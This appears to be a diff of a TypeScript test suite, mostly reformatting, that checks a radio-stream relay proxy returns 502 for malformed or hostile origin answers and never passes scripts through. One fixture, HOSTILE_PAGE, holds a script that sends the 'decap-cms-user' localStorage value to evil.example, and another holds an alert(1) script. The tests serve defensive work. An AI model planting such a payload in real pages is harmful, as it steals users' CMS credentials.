@@ -21,27 +21,52 @@ const STATUS_JSON = '{"icestats":{"source":{"title":"Morning dew"}}}';
 const RELAY = RADIO.relays[0] ?? null;
 /** Every path that relays the origin: the stream, its relay (if the config has one), the status. */
 const RELAYED = [STREAM_URL, ...(RELAY ? [RELAY] : []), RADIO.statusPath];
-const HOSTILE_PAGE = '<!doctype html><title>Sign in</title><script>fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))</script>';
+const HOSTILE_PAGE =
+  '<!doctype html><title>Sign in</title><script>fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))</script>';
 
 /** What the stand-in does with one connection, once it has read the request's path. */
 type Behaviour = (socket: net.Socket, path: string) => void;
 
-const raw = (text: string): Behaviour => (socket) => socket.end(Buffer.from(text, 'latin1'));
+const raw =
+  (text: string): Behaviour =>
+  (socket) =>
+    socket.end(Buffer.from(text, 'latin1'));
 const WELL: Behaviour = (socket, requested) => {
-  const [type, body] = requested.startsWith('/status') ? ['application/json', Buffer.from(STATUS_JSON)] : ['audio/mpeg', AUDIO];
-  socket.end(Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`), body]));
+  const [type, body] = requested.startsWith('/status')
+    ? ['application/json', Buffer.from(STATUS_JSON)]
+    : ['audio/mpeg', AUDIO];
+  socket.end(
+    Buffer.concat([
+      Buffer.from(
+        `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
+      ),
+      body,
+    ]),
+  );
 };
 
 /** Answers the stand-in gives before its first byte of body: each must be a 502 on both paths. */
 const REFUSED_HEADS: [string, Behaviour][] = [
-  ['a status below 100 (HTTP/1.1 099)', raw('HTTP/1.1 099 Low\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>')],
+  [
+    'a status below 100 (HTTP/1.1 099)',
+    raw('HTTP/1.1 099 Low\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
+  ],
   ['a status above 599 (HTTP/1.1 600)', raw('HTTP/1.1 600 High\r\nContent-Type: audio/mpeg\r\n\r\nabc')],
   ['a four-digit status', raw('HTTP/1.1 1000 Odd\r\nContent-Type: audio/mpeg\r\n\r\nabc')],
-  ['an upgrade (HTTP/1.1 101)', raw('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nabc')],
+  [
+    'an upgrade (HTTP/1.1 101)',
+    raw('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nabc'),
+  ],
   ['an informational answer and nothing after it', raw('HTTP/1.1 100 Continue\r\n\r\n')],
   ['a header line without a colon', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nNot a header\r\n\r\nabc')],
-  ['a control character in a header', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nicy-name: a\u0001b\r\n\r\nabc')],
-  ['two different lengths', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc')],
+  [
+    'a control character in a header',
+    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nicy-name: a\u0001b\r\n\r\nabc'),
+  ],
+  [
+    'two different lengths',
+    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc'),
+  ],
   ['no HTTP at all', raw('hello there\r\n\r\n')],
   ['a reset before any answer', (socket) => socket.resetAndDestroy()],
   ['a close before any answer', (socket) => socket.end()],
@@ -49,10 +74,17 @@ const REFUSED_HEADS: [string, Behaviour][] = [
 
 /** Answers of any other type than the path carries (audio, or JSON for the status): a 502 on every path. */
 const pageAnswer = (type: string | null): Behaviour =>
-  raw(`HTTP/1.1 200 OK\r\n${type === null ? '' : `Content-Type: ${type}\r\n`}Content-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`);
+  raw(
+    `HTTP/1.1 200 OK\r\n${type === null ? '' : `Content-Type: ${type}\r\n`}Content-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`,
+  );
 const OTHER_TYPES: [string, Behaviour][] = [
   ['an HTML page with a script', pageAnswer('text/html; charset=utf-8')],
-  ['an HTML page under 404', raw(`HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`)],
+  [
+    'an HTML page under 404',
+    raw(
+      `HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`,
+    ),
+  ],
   ['an SVG image with a script', pageAnswer('image/svg+xml')],
   ['plain text', pageAnswer('text/plain')],
   ['an answer with no type, which a browser would sniff', pageAnswer(null)],
@@ -61,9 +93,18 @@ const OTHER_TYPES: [string, Behaviour][] = [
 
 /** Answers cut off after their head: a 502 for the status (relayed whole), a cut for the stream (already flowing). */
 const CUT_BODIES: [string, Behaviour][] = [
-  ['a body shorter than its length', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 1000\r\n\r\n{"icestats":')],
-  ['a chunked body cut inside a chunk', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\n64\r\n{"icestats":')],
-  ['a malformed chunk', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n')],
+  [
+    'a body shorter than its length',
+    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 1000\r\n\r\n{"icestats":'),
+  ],
+  [
+    'a chunked body cut inside a chunk',
+    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\n64\r\n{"icestats":'),
+  ],
+  [
+    'a malformed chunk',
+    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n'),
+  ],
   [
     'a reset midway',
     (socket) => {
@@ -93,19 +134,23 @@ beforeAll(async () => {
   mkdirSync(path.join(projectRoot, '.tmp'), { recursive: true });
   scratch = mkdtempSync(path.join(projectRoot, '.tmp', 'proxy-'));
   writeFileSync(path.join(scratch, 'index.html'), '<!doctype html><title>Home</title><p>Home</p>');
-  site = spawn(path.join(projectRoot, 'node_modules/.bin/node'), ['scripts/serve.mjs', '--dir', scratch, '--port', String(SITE_PORT)], {
-    cwd: projectRoot,
-    stdio: ['ignore', 'pipe', 'pipe'],
-    env: {
-      ...process.env,
-      RADIO_ORIGIN: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
-      RADIO_STATUS_URL: `http://127.0.0.1:${ORIGIN_PORT}/status-json.xsl`,
-      RADIO_RELAYS: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
-      RADIO_PROXY_CUT_AFTER_MS: '',
-      RADIO_PROXY_CUT_ABRUPT: '',
-      RADIO_PROXY_STRIP_ICY: '',
+  site = spawn(
+    path.join(projectRoot, 'node_modules/.bin/node'),
+    ['scripts/serve.mjs', '--dir', scratch, '--port', String(SITE_PORT)],
+    {
+      cwd: projectRoot,
+      stdio: ['ignore', 'pipe', 'pipe'],
+      env: {
+        ...process.env,
+        RADIO_ORIGIN: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
+        RADIO_STATUS_URL: `http://127.0.0.1:${ORIGIN_PORT}/status-json.xsl`,
+        RADIO_RELAYS: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
+        RADIO_PROXY_CUT_AFTER_MS: '',
+        RADIO_PROXY_CUT_ABRUPT: '',
+        RADIO_PROXY_STRIP_ICY: '',
+      },
     },
-  });
+  );
   await new Promise<void>((resolve, reject) => {
     site.stdout?.on('data', (chunk: Buffer) => chunk.toString().includes('Serving') && resolve());
     site.once('exit', (code) => reject(new Error(`serve.mjs exited with ${code}`)));
@@ -161,42 +206,66 @@ async function expectServedAsUsual() {
   for (const address of RELAYED) {
     const answer = await get(`${SITE}${address}`);
     const json = address === RADIO.statusPath;
-    expect(answer).toMatchObject({ status: 200, type: json ? 'application/json' : 'audio/mpeg', whole: true, ...PROXIED });
+    expect(answer).toMatchObject({
+      status: 200,
+      type: json ? 'application/json' : 'audio/mpeg',
+      whole: true,
+      ...PROXIED,
+    });
     expect(answer.body).toEqual(json ? Buffer.from(STATUS_JSON) : AUDIO);
   }
 }
 
-
 describe('the preview server relaying an origin that answers anything', { timeout: 30_000 }, () => {
   it('relays a well-behaved origin', expectServedAsUsual);
 
-  it.each(REFUSED_HEADS)('answers %s with 502 on the stream and the status, and serves the next request', async (_what, hostile) => {
-    behaviour = hostile;
-    for (const address of [`${SITE}${STREAM_URL}`, `${SITE}${RADIO.statusPath}`]) {
-      const answer = await get(address);
-      expect({ address, status: answer.status, type: answer.type }).toEqual({ address, status: 502, type: 'text/plain' });
-    }
-    await expectServedAsUsual();
-  });
+  it.each(REFUSED_HEADS)(
+    'answers %s with 502 on the stream and the status, and serves the next request',
+    async (_what, hostile) => {
+      behaviour = hostile;
+      for (const address of [`${SITE}${STREAM_URL}`, `${SITE}${RADIO.statusPath}`]) {
+        const answer = await get(address);
+        expect({ address, status: answer.status, type: answer.type }).toEqual({
+          address,
+          status: 502,
+          type: 'text/plain',
+        });
+      }
+      await expectServedAsUsual();
+    },
+  );
 
-  it.each(OTHER_TYPES)('answers %s with 502 on the stream, its relay and the status: never text/html', async (_what, hostile) => {
-    behaviour = hostile;
-    for (const address of RELAYED) {
-      const answer = await get(`${SITE}${address}`);
-      expect({ address, status: answer.status, type: answer.type, nosniff: answer.nosniff, policy: answer.policy }).toEqual({ address, status: 502, type: 'text/plain', ...PROXIED });
-      expect(answer.body.toString()).not.toContain('<script');
-    }
-    await expectServedAsUsual();
-  });
+  it.each(OTHER_TYPES)(
+    'answers %s with 502 on the stream, its relay and the status: never text/html',
+    async (_what, hostile) => {
+      behaviour = hostile;
+      for (const address of RELAYED) {
+        const answer = await get(`${SITE}${address}`);
+        expect({
+          address,
+          status: answer.status,
+          type: answer.type,
+          nosniff: answer.nosniff,
+          policy: answer.policy,
+        }).toEqual({ address, status: 502, type: 'text/plain', ...PROXIED });
+        expect(answer.body.toString()).not.toContain('<script');
+      }
+      await expectServedAsUsual();
+    },
+  );
 
-  it.each(CUT_BODIES)('answers %s with 502 on the status and a cut connection on the stream, and serves the next request', async (_what, hostile) => {
-    behaviour = hostile;
-    const status = await get(`${SITE}${RADIO.statusPath}`);
-    expect(status).toMatchObject({ status: 502, type: 'text/plain' });
-    // The stream's head went out with the origin's, before its body was cut: the listener's connection is cut too,
-    // so that the player reconnects rather than take the stream for ended.
-    const stream = await get(`${SITE}${STREAM_URL}`).catch(() => null);
-    if (stream) expect(stream.status === 502 || !stream.whole, `the stream answered ${stream.status}, whole`).toBe(true);
-    await expectServedAsUsual();
-  });
+  it.each(CUT_BODIES)(
+    'answers %s with 502 on the status and a cut connection on the stream, and serves the next request',
+    async (_what, hostile) => {
+      behaviour = hostile;
+      const status = await get(`${SITE}${RADIO.statusPath}`);
+      expect(status).toMatchObject({ status: 502, type: 'text/plain' });
+      // The stream's head went out with the origin's, before its body was cut: the listener's connection is cut too,
+      // so that the player reconnects rather than take the stream for ended.
+      const stream = await get(`${SITE}${STREAM_URL}`).catch(() => null);
+      if (stream)
+        expect(stream.status === 502 || !stream.whole, `the stream answered ${stream.status}, whole`).toBe(true);
+      await expectServedAsUsual();
+    },
+  );
 });
